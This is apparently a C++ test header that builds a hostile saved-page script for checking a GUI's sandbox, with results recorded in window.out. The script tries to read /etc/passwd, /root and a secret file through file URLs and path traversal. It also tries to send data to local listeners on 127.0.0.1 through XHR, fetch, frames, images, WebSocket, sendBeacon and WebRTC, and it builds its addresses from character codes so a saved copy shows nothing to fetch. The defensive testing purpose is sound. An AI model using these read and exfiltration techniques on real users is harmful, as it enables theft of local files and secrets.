// The script of a hostile saved page: opened from disk (never on the web)
// it tries every way to read what is not its own and to send something out,
// all pointed at listeners on 127.0.0.1. Each outcome lands in window.out:
// a text read, "failed" (an error answer), "blocked" or "made" (a peer
// connection). Addresses are put together at run time from character codes,
// so that a download that saves the page finds nothing in it to fetch or to
// rewrite.
#pragma once

#include <string>

#include "gui/outside_listeners.h"

namespace kaplo::test {

// "/a/b" as " a b": the script puts the slashes back.
inline std::string Spaced(std::string path) {
  for (char& c : path) {
    if (c == '/') c = ' ';
  }
  return path;
}

inline std::string HostileScript(const std::string& secret_path, const OutsideListeners& outside) {
  const std::string head = "<script>\nvar TCP_PORT = " + std::to_string(outside.tcp_port()) +
                           ", UDP_PORT = " + std::to_string(outside.udp_port()) +
                           ", SECRET = '" + Spaced(secret_path) + "';\n";
  return head + R"JS(
var out = {};
var C = String.fromCharCode(58), S = String.fromCharCode(47), Q = String.fromCharCode(63),
    P = String.fromCharCode(37);
var HTTP = 'http' + C + S + S, WS = 'ws' + C + S + S;
var TCP = '127.0.0.1' + C + TCP_PORT, UDP = '127.0.0.1' + C + UDP_PORT;
function file(spaced) { return 'file' + C + S + S + spaced.split(' ').join(S); }
function sync(name, url) {
  try {
    var x = new XMLHttpRequest(); x.open('GET', url, false); x.send();
    out[name] = x.status === 200 ? x.responseText : 'failed';
  } catch (e) { out[name] = 'blocked'; }
}
function later(name, url) {
  try {
    var x = new XMLHttpRequest(); x.open('GET', url);
    x.onload = function () { out[name] = x.status === 200 ? x.responseText : 'failed'; };
    x.onerror = function () { out[name] = 'blocked'; };
    x.send();
  } catch (e) { out[name] = 'blocked'; }
}
function get(name, url) {
  fetch(url).then(function (r) { return r.text(); })
    .then(function (t) { out[name] = t; }, function () { out[name] = 'blocked'; });
}
function add(tag, url) {
  var e = document.createElement(tag); e.src = url; e.style.display = 'none';
  document.body.appendChild(e);
}
function rtc(name, Connection) {
  try {
    var pc = new Connection({iceServers: [{
      urls: ['turn' + C + UDP + Q + 'transport=udp', 'turn' + C + TCP + Q + 'transport=tcp',
             'stun' + C + UDP],
      username: 'u', credential: 'c'}]});
    pc.createDataChannel('d');
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    out[name] = 'made';
  } catch (e) { out[name] = 'blocked'; }
}
if (location.protocol !== 'http' + C && location.protocol !== 'https' + C) {
  sync('xhr', file(' etc passwd'));
  later('xhr_async', file(' etc passwd'));
  sync('xhr_secret', file(SECRET));
  sync('xhr_up', '..' + P + '2fsecret.txt');
  get('fetch', file(' root '));
  add('iframe', file(' etc passwd'));
  add('img', file(' etc passwd'));
  add('iframe', HTTP + TCP + S + 'frame');
  add('img', HTTP + TCP + S + 'img.png');
  try { new WebSocket(WS + TCP + S + 'ws'); } catch (e) {}
  try { navigator.sendBeacon(HTTP + TCP + S + 'beacon', 'data'); } catch (e) {}
  rtc('rtc', window.RTCPeerConnection);
  // A frame of no document of its own has a peer connection of its own.
  var f = document.createElement('iframe');
  document.body.appendChild(f);
  rtc('rtc_frame', f.contentWindow.RTCPeerConnection);
}
</script>)JS";
}

}  // namespace kaplo::test
